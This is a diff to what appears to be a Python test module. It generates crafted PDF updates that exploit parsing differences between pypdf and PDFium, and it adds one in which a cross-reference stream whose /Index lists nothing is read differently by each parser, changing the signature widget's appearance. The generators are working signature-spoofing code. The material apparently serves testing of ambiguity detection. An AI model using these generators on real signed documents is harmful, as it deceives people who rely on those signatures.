@@ -5,9 +5,10 @@ it as ambiguous (``ambiguous-objects``: invalid).
 PDFium (``CPDF_Parser``) marks a number free under the generation a cross-reference
 stream's free entry gives and then refuses the entry that uses it under a lower one;
 resolves nothing under number 0; skips an object stream's entry numbered 0, which moves
-every later index; and refuses a cross-reference stream numbered 0, or of a ``/Size``
-past its limit, rebuilding the cross-reference data from the bodies in the file (the last
-body of a number wins). Each attack is an update to an issued release answered by pypdf
+every later index; reads a cross-reference stream whose ``/Index`` lists nothing as if it
+listed objects 0 to ``/Size``; and refuses a cross-reference stream numbered 0, or of a
+``/Size`` past its limit, rebuilding the cross-reference data from the bodies in the file
+(the last body of a number wins). Each attack is an update to an issued release answered by pypdf
 (valid), aimed at the signature's widget or its appearance.
 """
 
@@ -193,12 +194,46 @@ def _rebuilt(number: int | None, size: int | None) -> Callable[[bytes], bytes]:
     return build
 
 
+def _index_lists_none(data: bytes) -> bytes:
+    """An update whose cross-reference stream's ``/Index`` is ``[0 0]`` over rows for
+    every object: pypdf reads none of them, PDFium reads them as objects 0 to ``/Size``,
+    where the signature's widget draws a refusal (review of session 59, /tmp/review59d)."""
+    widget, appearance = _signature(data)
+    objects = Objects(data)
+    update = _Update(data)
+    drawing, section = update.size, update.size + 1
+    body = re.sub(rb"/N %d 0 R" % appearance, b"/N %d 0 R" % drawing, _body(data, widget))
+    moved = {widget: update.obj(widget, 0, body), drawing: update.obj(drawing, 0, REFUSAL_AP)}
+    at = len(update.out)
+    moved[section] = at
+    rows = b""
+    for num in range(section + 1):
+        if num in moved:
+            kind, first, second = 1, moved[num], 0
+        elif num and (num, 0) in objects.xref:
+            kind, first, second = 1, objects.xref[(num, 0)], 0
+        elif num in objects.in_stream:
+            kind, (first, second) = 2, objects.in_stream[num]
+        else:
+            kind, first, second = 0, 0, 0xFFFF if num == 0 else 0
+        rows += bytes([kind]) + first.to_bytes(4, "big") + second.to_bytes(2, "big")
+    update.out += (
+        b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Index [0 0] /Root %s R /Prev %d"
+        % (section, section + 1, update.root, update.prev)
+        + b" /Length %d >>\nstream\n" % len(rows)
+        + rows
+        + b"\nendstream\nendobj\n"
+    )
+    return bytes(update.out + b"startxref\n%d\n%%%%EOF\n" % at)
+
+
 ATTACKS: dict[str, Callable[[bytes], bytes]] = {
     "a free entry under generation 1": _freed_under_generation_one,
     "object 0": _object_zero,
     "an object stream's entry numbered 0": _object_stream_entry_zero,
     "a cross-reference stream numbered 0": _rebuilt(0, None),
     "a cross-reference stream of /Size past PDFium's limit": _rebuilt(None, 99_999_999),
+    "a cross-reference stream whose /Index lists nothing": _index_lists_none,
 }
 
 
